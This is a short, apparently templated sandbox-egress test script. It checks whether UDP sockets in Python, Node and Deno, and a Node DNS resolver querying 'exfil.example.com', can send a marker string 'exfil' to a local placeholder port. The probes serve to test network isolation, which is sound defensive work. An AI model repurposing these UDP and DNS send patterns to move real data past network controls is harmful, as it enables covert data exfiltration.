import socket
def s():
    c=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); c.sendto(b'exfil',('127.0.0.1',{{UDP}})); return 'sent'
T('udp',s)
T('dgram',lambda:JS("(()=>{const s="+MOD('dgram')+".createSocket('udp4');s.on('error',()=>{});s.send('exfil',{{UDP}},'127.0.0.1');return 'sent'})()"))
T('dns resolver',lambda:JS("(()=>{const {Resolver}="+MOD('dns')+";const r=new Resolver();r.setServers(['127.0.0.1:{{UDP}}']);r.resolve4('exfil.example.com',()=>{});return 'sent'})()"))
T('deno udp',lambda:JS("Deno.listenDatagram({port:0,transport:'udp'})"))
async def main(i):
    import asyncio; await asyncio.sleep(0.5)
await main(inputs)
